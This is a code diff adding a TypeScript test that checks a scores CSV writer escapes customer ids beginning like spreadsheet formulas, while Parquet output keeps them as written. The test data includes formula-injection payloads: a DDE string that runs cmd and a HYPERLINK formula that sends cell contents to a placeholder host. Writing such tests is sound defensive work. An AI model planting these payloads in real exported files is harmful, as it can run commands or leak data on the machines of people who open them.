@@ -27,6 +27,7 @@ import {
 } from "./run-score.ts";
 import { csvHeader, SCORE_COLUMNS } from "./score-columns.ts";
 import {
+  csvSink,
   parquetSink,
   partialPathFor,
   postgresSink,
@@ -325,6 +326,43 @@ test("Parquet (typed columns through DuckDB) holds what the CSV holds, to the la
   const none = await parquetSink(empty);
   await none.close();
   expect(await parquetRows(empty)).toEqual([]);
+});
+
+// Ids from a shop's log went into the CSV as written: `=HYPERLINK(…)` or `+1+cmd|' /C calc'!A0`
+// ran as formulas when the file was opened in Excel or LibreOffice (security probe).
+test("a scores CSV runs no formula: ids that begin like one get a leading ', counted; Parquet keeps them", async () => {
+  const ids = [
+    '=HYPERLINK("http://x.example/?"&C3,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1)",
+    "-7",
+    "+44",
+    "a-1",
+  ];
+  const out = join(dir, "formulas.csv");
+  const sink = csvSink(out, SCORE_COLUMNS, true);
+  await sink.write(scoredOf(ids, 1));
+  await sink.close();
+  const parsed = Papa.parse<Record<string, string>>(await readFile(out, "utf8"), {
+    header: true,
+    skipEmptyLines: true,
+  });
+  expect(parsed.data.map((r) => r.customer_id)).toEqual([
+    '\'=HYPERLINK("http://x.example/?"&C3,"click")',
+    "'+1+cmd|' /C calc'!A0",
+    "'-2+3",
+    "'@SUM(1)",
+    "-7", // numbers are values, not formulas
+    "+44",
+    "a-1",
+  ]);
+  expect(sink.note?.()).toStartWith("note: 4 customer ids begin like a spreadsheet formula");
+  const parquet = join(dir, "formulas.parquet");
+  const typed = await parquetSink(parquet);
+  await typed.write(scoredOf(ids, 1));
+  await typed.close();
+  expect((await parquetRows(parquet)).map((r) => r.customer_id)).toEqual(ids);
 });
 
 test("an aborted run leaves the previous table and file untouched", async () => {
